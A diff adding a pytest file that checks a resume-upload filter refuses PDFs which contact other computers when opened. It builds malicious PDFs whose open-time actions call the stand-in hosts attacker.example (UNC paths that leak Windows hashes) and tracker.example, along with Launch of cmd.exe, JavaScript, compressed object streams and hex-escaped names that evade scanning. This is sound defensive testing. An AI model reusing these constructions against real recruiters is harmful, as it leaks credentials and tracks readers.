@@ -1,0 +1,265 @@
+"""Resumes that contact other computers when a recruiter opens them are refused.
+
+These are the attacks seen against recruiters: a document that fetches a picture or template
+from a UNC path (\\\\host\\share, leaking the reader's Windows password hash) or from a web
+server (a tracking pixel, or Follina-style remote code), or a PDF that sends data or opens a
+remote file. Each malicious file is built here from the real structure its format uses; the
+files people really send (tests/fixtures/resumes, clickable links) stay accepted.
+"""
+
+import io
+
+import pytest
+from pypdf import PdfWriter
+from pypdf.annotations import Link
+from pypdf.generic import (
+    ArrayObject,
+    DictionaryObject,
+    NameObject,
+    NumberObject,
+    StreamObject,
+    TextStringObject,
+)
+
+from candidates.filetypes import _pdf_raw_has_active_content, _pdf_raw_has_remote_actions
+from tests.candidates.test_filetypes import build_pdf, inspect, pack_object_stream_pdf, refusal
+
+UNC_PDF = "\\\\attacker.example\\share\\logo.pdf"
+TRACKER = "https://tracker.example/open?id=4711"
+LINKEDIN = "https://www.linkedin.com/in/jane-example"
+
+
+# --- PDF builders ------------------------------------------------------------------------------
+
+
+def name(value: str) -> NameObject:
+    return NameObject(f"/{value}")
+
+
+def pdf_action(kind: str, **entries) -> DictionaryObject:
+    """An action dictionary (PDF 32000 §12.6): /S names the kind, the rest are its entries."""
+    action = DictionaryObject({name("Type"): name("Action"), name("S"): name(kind)})
+    for key, value in entries.items():
+        action[name(key)] = TextStringObject(value) if isinstance(value, str) else value
+    return action
+
+
+def uri(url: str = TRACKER) -> DictionaryObject:
+    return pdf_action("URI", URI=url)
+
+
+def new_writer(pages: int = 2) -> PdfWriter:
+    writer = PdfWriter()
+    for _ in range(pages):
+        writer.add_blank_page(width=612, height=792)
+    return writer
+
+
+def annotation(subtype: str = "Link", **entries) -> DictionaryObject:
+    annot = DictionaryObject(
+        {
+            name("Type"): name("Annot"),
+            name("Subtype"): name(subtype),
+            name("Rect"): ArrayObject([NumberObject(n) for n in (72, 700, 300, 720)]),
+        }
+    )
+    annot.update({name(key): value for key, value in entries.items()})
+    return annot
+
+
+def link(writer: PdfWriter, action: DictionaryObject, *, page: int = 0) -> None:
+    writer.add_annotation(page_number=page, annotation=annotation(A=action))
+
+
+def written(writer: PdfWriter) -> bytes:
+    buffer = io.BytesIO()
+    writer.write(buffer)
+    return buffer.getvalue()
+
+
+def compressed(data: bytes) -> bytes:
+    """The same PDF with every object moved into a Flate-compressed object stream, so none of
+    its names can be seen in the raw bytes."""
+    from pypdf import PdfReader
+
+    reader = PdfReader(io.BytesIO(data))
+    bodies = []
+    for number in range(1, int(reader.trailer["/Size"])):
+        obj = reader.get_object(number)
+        assert not isinstance(obj, StreamObject), "object streams can't hold streams"
+        buffer = io.BytesIO()
+        obj.write_to_stream(buffer)
+        bodies.append(buffer.getvalue())
+    return pack_object_stream_pdf(bodies, root=reader.trailer.raw_get("/Root").idnum)
+
+
+def with_open_action(action) -> bytes:
+    writer = new_writer()
+    writer.root_object[name("OpenAction")] = action
+    return written(writer)
+
+
+def with_page_aa(trigger: str, action: DictionaryObject) -> bytes:
+    writer = new_writer()
+    writer.pages[0][name("AA")] = DictionaryObject({name(trigger): action})
+    return written(writer)
+
+
+def with_annotation_aa(trigger: str, action: DictionaryObject, subtype: str = "Link") -> bytes:
+    writer = new_writer()
+    aa = DictionaryObject({name(trigger): action})
+    writer.add_annotation(page_number=0, annotation=annotation(subtype, AA=aa))
+    return written(writer)
+
+
+def with_catalog_aa(trigger: str, action: DictionaryObject) -> bytes:
+    writer = new_writer()
+    writer.root_object[name("AA")] = DictionaryObject({name(trigger): action})
+    return written(writer)
+
+
+def with_link(action: DictionaryObject) -> bytes:
+    writer = new_writer()
+    link(writer, action)
+    return written(writer)
+
+
+def goto_page(writer: PdfWriter, page: int) -> DictionaryObject:
+    return pdf_action("GoTo", D=ArrayObject([writer.pages[page].indirect_reference, name("Fit")]))
+
+
+# --- PDF: accepted -----------------------------------------------------------------------------
+
+
+def linked_resume() -> bytes:
+    """A resume with clickable links, an internal link, and an opening view on page 2."""
+    writer = new_writer()
+    writer.add_annotation(page_number=0, annotation=Link(rect=(72, 700, 300, 720), url=LINKEDIN))
+    writer.add_annotation(
+        page_number=0, annotation=Link(rect=(72, 680, 300, 700), url="mailto:jane@example.com")
+    )
+    writer.add_annotation(
+        page_number=0, annotation=Link(rect=(72, 660, 300, 680), target_page_index=1)
+    )
+    # Opening on a page whose links reach the web must not count those links as "on open".
+    link(writer, uri("https://github.com/jane-example"), page=1)
+    writer.root_object[name("OpenAction")] = goto_page(writer, 1)
+    writer.pages[1][name("AA")] = DictionaryObject(
+        {name("O"): pdf_action("Named", N=name("NextPage"))}
+    )
+    return written(writer)
+
+
+@pytest.mark.parametrize("pack", [False, True], ids=["plain", "object-stream"])
+def test_pdf_with_clickable_links_is_accepted(pack):
+    data = linked_resume()
+    assert data.count(b"/S /URI") == 3  # LinkedIn, email and GitHub
+    assert inspect(compressed(data) if pack else data, "resume.pdf").kind == "pdf"
+
+
+def test_pdf_opening_at_a_destination_is_accepted():
+    # LibreOffice writes /OpenAction [page /XYZ ...], a destination, not an action.
+    writer = new_writer()
+    writer.root_object[name("OpenAction")] = ArrayObject(
+        [
+            writer.pages[0].indirect_reference,
+            name("XYZ"),
+            NumberObject(0),
+            NumberObject(792),
+            NumberObject(0),
+        ]
+    )
+    assert inspect(written(writer), "resume.pdf").kind == "pdf"
+
+
+# --- PDF: refused ------------------------------------------------------------------------------
+
+
+def remote_refusal(data: bytes, *, code: str = "remote_content") -> None:
+    rejected = refusal(data, "resume.pdf")
+    assert rejected.code == code
+    if code == "remote_content":
+        assert "contact other computers" in rejected.message
+        assert "Save as PDF" in rejected.message
+
+
+REMOTE_ON_OPEN = {
+    "open-action-uri": lambda: with_open_action(uri()),
+    "open-action-uri-unc": lambda: with_open_action(uri("file://attacker.example/share/x.png")),
+    "open-action-goto-then-uri": lambda: with_open_action(
+        pdf_action(
+            "Named",
+            N=name("FirstPage"),
+            Next=ArrayObject([pdf_action("Named", N=name("LastPage")), uri()]),
+        )
+    ),
+    "open-action-gotor-unc": lambda: with_open_action(
+        pdf_action("GoToR", F=UNC_PDF, D=ArrayObject([NumberObject(0), name("Fit")]))
+    ),
+    "open-action-import-data": lambda: with_open_action(pdf_action("ImportData", F=UNC_PDF)),
+    "open-action-submit-form": lambda: with_open_action(
+        pdf_action("SubmitForm", F=pdf_action("URI", URI=TRACKER), Flags=NumberObject(4))
+    ),
+    "open-action-thread": lambda: with_open_action(
+        pdf_action("Thread", F=UNC_PDF, D=NumberObject(0))
+    ),
+    "page-open-uri": lambda: with_page_aa("O", uri()),
+    "page-close-uri": lambda: with_page_aa("C", uri()),
+    "annotation-page-visible-uri": lambda: with_annotation_aa("PV", uri()),
+    "annotation-mouse-enter-uri": lambda: with_annotation_aa("E", uri()),
+    "form-field-focus-uri": lambda: with_annotation_aa("Fo", uri(), subtype="Widget"),
+    "catalog-will-close-uri": lambda: with_catalog_aa("WC", uri()),
+    "catalog-did-print-uri": lambda: with_catalog_aa("DP", uri()),
+    "link-gotor-unc": lambda: with_link(pdf_action("GoToR", F=UNC_PDF, D=NumberObject(0))),
+    "link-submit-form": lambda: with_link(pdf_action("SubmitForm", F=TRACKER)),
+    "link-import-data": lambda: with_link(pdf_action("ImportData", F=UNC_PDF)),
+    "link-uri-then-gotor": lambda: with_link(
+        pdf_action("URI", URI=LINKEDIN, Next=pdf_action("GoToR", F=UNC_PDF, D=NumberObject(0)))
+    ),
+}
+
+
+@pytest.mark.parametrize("build", REMOTE_ON_OPEN.values(), ids=REMOTE_ON_OPEN.keys())
+def test_pdf_that_contacts_other_computers(build):
+    remote_refusal(build())
+
+
+@pytest.mark.parametrize("build", REMOTE_ON_OPEN.values(), ids=REMOTE_ON_OPEN.keys())
+def test_pdf_that_contacts_other_computers_from_a_compressed_object_stream(build):
+    data = compressed(build())
+    # Only the parsed objects give it away: nothing readable is left in the raw bytes.
+    for hidden in (b"URI", b"GoToR", b"ImportData", b"SubmitForm", b"attacker", b"tracker"):
+        assert hidden not in data
+    assert not _pdf_raw_has_remote_actions(data)
+    remote_refusal(data)
+
+
+@pytest.mark.parametrize(
+    "action",
+    [
+        pdf_action("Launch", F="cmd.exe"),
+        pdf_action("GoToE", NewWindow=name("true")),
+        pdf_action("JavaScript", JS="app.launchURL('https://tracker.example/', false)"),
+    ],
+    ids=["launch", "gotoe", "javascript"],
+)
+@pytest.mark.parametrize("pack", [False, True], ids=["plain", "object-stream"])
+def test_pdf_launch_embedded_goto_and_scripts_on_page_open(action, pack):
+    data = with_page_aa("O", action)
+    data = compressed(data) if pack else data
+    if pack:
+        assert not _pdf_raw_has_active_content(data)
+    remote_refusal(data, code="active_content")
+
+
+def test_pdf_with_hex_escaped_remote_action_name():
+    data = build_pdf(page_extra=b"/AA << /O << /S /G#6FTo#52 /F (x.pdf) /D 0 >> >>")
+    assert b"GoToR" not in data
+    assert _pdf_raw_has_remote_actions(data)
+    remote_refusal(data)
+
+
+def test_raw_pdf_scan_for_remote_actions_ignores_lookalikes():
+    assert _pdf_raw_has_remote_actions(b"<< /S /SubmitForm >>")
+    assert _pdf_raw_has_remote_actions(b"<</S/ImportData/F(x)>>")
+    assert not _pdf_raw_has_remote_actions(b"<< /GoToRemote 1 /SubmitFormat 2 /URI (x) >>")
